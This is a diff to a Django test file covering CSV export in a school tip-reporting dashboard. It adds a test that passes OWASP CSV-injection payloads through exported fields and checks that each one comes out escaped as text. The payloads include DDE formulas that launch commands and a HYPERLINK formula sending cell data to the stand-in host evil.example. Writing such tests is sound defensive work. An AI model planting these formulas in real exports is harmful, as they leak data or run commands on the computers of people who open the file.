@@ -7,6 +7,7 @@ import io
 import pytest
 from django.urls import reverse
 
+from reports.models import Tip
 from reports.triage import actions
 from safeschools.models import AuditEvent
 
@@ -29,15 +30,73 @@ def test_export_has_only_visible_filtered_tips_and_is_audited(staff_client, offi
 
 
 @pytest.mark.django_db
-def test_contact_details_only_for_roles_that_may_see_them(
-    staff_client, officer_olsen, principal_park, clayton_tip, client
-):
+def test_contact_details_follow_the_tip_page_rule(staff_client, officer_olsen, viewer_vega, clayton_tip, client):
+    """The rule of reports.triage.permissions.may_see_contact, row by row (the full table of
+    roles is in test_permissions)."""
     rows = exported(staff_client(officer_olsen).get(reverse("dashboard:export"), {"include_contact": "on"}))
     assert rows[0]["contact details"] == "555-0142"
     client.logout()
-    rows = exported(staff_client(principal_park).get(reverse("dashboard:export"), {"include_contact": "on"}))
-    assert "contact details" not in rows[0]
-    assert AuditEvent.objects.filter(action="export", detail__with_contact=False).count() == 1
+    rows = exported(staff_client(viewer_vega).get(reverse("dashboard:export"), {"include_contact": "on"}))
+    assert rows[0]["contact details"] == ""
+    assert AuditEvent.objects.filter(action="export", detail__with_contact=True).count() == 2
+
+
+OWASP_PAYLOADS = [
+    "=1+2",
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Call me")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    "  =1+2",
+    "＝1+2",
+    "=cmd|' /C notepad'!'A1'",
+    "+1-2",
+    "-cmd|' /C calc'!A0",
+]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_no_exported_cell_starts_a_formula(staff_client, officer_olsen, make_tip, clayton_high, payload):
+    """SECURITY.md 38: the OWASP CSV-injection list in a tipster's contact details, a
+    school's name and a username: each cell comes out as text."""
+    from reports.triage.export import FORMULA_START
+
+    clayton_high.name = payload
+    clayton_high.save()
+    officer_olsen.username = payload[:150]
+    officer_olsen.save()
+    tip = make_tip(school=clayton_high, contact_details=payload).tip
+    Tip.objects.filter(pk=tip.pk).update(assigned_to=officer_olsen)
+    text = b"".join(
+        staff_client(officer_olsen).get(reverse("dashboard:export"), {"include_contact": "on"}).streaming_content
+    )
+    for row in csv.reader(io.StringIO(text.decode(), newline="")):
+        for cell in row:
+            assert not cell.lstrip().startswith(FORMULA_START), cell
+    row = exported_rows(text)[0]
+    for column in ("school", "contact details", "assigned to"):
+        assert row[column] == "'" + payload[: 150 if column == "assigned to" else None]
+
+
+def exported_rows(text: bytes) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text.decode(), newline="")))
+
+
+def test_ordinary_cells_are_left_alone():
+    from reports.triage.export import spreadsheet_cell
+
+    assert [spreadsheet_cell(v) for v in ["T-ABC2345", 3, True, "", None, "2026-03-03T15:00:00+00:00", "a-b"]] == [
+        "T-ABC2345",
+        "3",
+        "True",
+        "",
+        "",
+        "2026-03-03T15:00:00+00:00",
+        "a-b",
+    ]
 
 
 @pytest.mark.django_db
